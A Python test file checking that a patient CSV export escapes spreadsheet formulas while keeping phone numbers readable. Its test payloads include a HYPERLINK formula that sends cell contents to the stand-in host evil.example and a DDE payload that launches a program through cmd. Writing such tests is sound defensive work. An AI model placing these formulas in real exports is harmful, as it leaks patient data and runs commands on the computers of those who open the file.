"""The patient CSV export opens in Excel or LibreOffice as text: a name cannot be a formula, a phone stays a phone."""

from __future__ import annotations

import csv
import io

from service.csvsafe import safe_cell
from service.extensions import db
from service.models import Patient
from service.timeutil import utcnow

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A2,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
]


def exported_rows(client) -> list[dict[str, str]]:
    response = client.get("/admin/patient/export/csv/")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_no_exported_name_starts_a_formula_and_phones_still_read_as_phones(app, staff):
    with app.app_context():
        for i, payload in enumerate(PAYLOADS):
            db.session.add(
                Patient(first_name=payload, last_name=f"Martin{i}", phone=f"+3361234567{i}", language="fr", created_at=utcnow())
            )
        db.session.commit()

    rows = exported_rows(staff)
    assert len(rows) == len(PAYLOADS)
    names = {row["Last name"]: row["First name"] for row in rows}
    for i, payload in enumerate(PAYLOADS):
        cell = names[f"Martin{i}"]
        assert cell == "'" + payload, cell  # shown as typed, as text: the apostrophe is the spreadsheet's "text" mark
        assert cell[0] not in "=+-@\t\r\uff1d"
    phones = sorted(row["Mobile"] for row in rows)
    assert phones[0] == "'+33612345670"  # Excel shows +33612345670: the +, the country code, every digit
    assert all(p.removeprefix("'").removeprefix("+").isdigit() and len(p) == 13 for p in phones)


def test_plain_text_and_numbers_are_exported_unchanged():
    assert safe_cell("Inès") == "Inès" and safe_cell("O'Brien") == "O'Brien" and safe_cell("a=b") == "a=b"
    assert safe_cell(-3) == -3 and safe_cell(None) is None and safe_cell(True) is True
